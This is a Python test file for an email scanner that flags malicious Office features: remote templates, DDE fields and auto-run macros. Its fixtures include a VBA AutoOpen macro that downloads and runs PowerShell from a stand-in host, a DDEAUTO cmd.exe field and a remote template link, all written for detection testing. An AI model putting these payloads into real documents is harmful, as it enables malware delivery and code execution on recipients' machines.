"""Office scanner: macros (auto-exec, download-and-run), remote templates, DDE; decrypted
copies from the expander are analysed like any other document."""

from __future__ import annotations

from service import procpool
from service.config import Limits
from service.model import Code, Severity
from service.scanners import office
from service.scanners.base import ScanContext
from service.sniff import sniff
from tests import docfactory as d
from tests.factories import attachment, message

CTX = ScanContext(limits=Limits(scanner_timeout_s=15.0))
SETTINGS_RELS = (
    f'<?xml version="1.0"?><Relationships xmlns="{d.R_NS}"><Relationship Id="rId9" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>')
VBA = (b'Attribute VB_Name = "Module1"\nSub AutoOpen()\n  Dim x\n  x = Shell("powershell -c '
       b"iex (New-Object Net.WebClient).DownloadString('http://evil.test/a')\", 0)\nEnd Sub\n")


async def scan_doc(data: bytes, filename: str = "doc.docx") -> dict[Code, Severity]:
    att = attachment(data, filename=filename, sniffed=sniff(data))
    findings = await office.scan(message(attachments=(att,)), office.Options(), CTX)
    assert all(f.part == "2" for f in findings)
    return {f.code: f.severity for f in findings}


async def test_remote_template_injection_is_high() -> None:
    doc = d.docx(extra={"word/_rels/settings.xml.rels":
                        SETTINGS_RELS.format(target="https://evil.test/t.dotm")})
    assert await scan_doc(doc) == {Code.OFFICE_EXTERNAL_TEMPLATE: Severity.HIGH}


async def test_unc_template_is_medium_and_local_template_is_ignored() -> None:
    unc = d.docx(extra={"word/_rels/settings.xml.rels":
                        SETTINGS_RELS.format(target="\\\\203.0.113.9\\share\\t.dotm")})
    assert await scan_doc(unc) == {Code.OFFICE_EXTERNAL_TEMPLATE: Severity.MEDIUM}
    local = d.docx(extra={"word/_rels/settings.xml.rels": SETTINGS_RELS.format(
        target="Normal.dotm").replace(' TargetMode="External"', "")})
    assert await scan_doc(local) == {}


async def test_dde_field_in_document_xml() -> None:
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    assert await scan_doc(d.docx(body_xml=body)) == {Code.OFFICE_DDE: Severity.HIGH}


async def test_honest_document_is_quiet() -> None:
    assert await scan_doc(d.docx("Minutes of the meeting")) == {}


async def analyze(data: bytes) -> dict[str, str]:
    """In the worker, as in production (olevba is given VBA source as text here)."""
    events = await procpool.shared_pool().run(office.analyze, data, "low", timeout=15)
    return {code: sev for code, sev, _ in events}


async def test_autoexec_download_macro_is_high() -> None:
    events = await analyze(VBA)
    assert events == {"office_macro": "low", "office_macro_autoexec": "medium",
                      "office_macro_suspicious": "high"}


async def test_macro_without_autoexec_is_not_high() -> None:
    events = await analyze(VBA.replace(b"AutoOpen", b"Helper"))
    assert events.get("office_macro_suspicious") == "medium"
    assert "office_macro_autoexec" not in events


async def test_non_office_attachments_are_skipped() -> None:
    att = attachment(b"%PDF-1.4 DDEAUTO", filename="a.pdf", sniffed="application/pdf")
    assert await office.scan(message(attachments=(att,)), office.Options(), CTX) == []
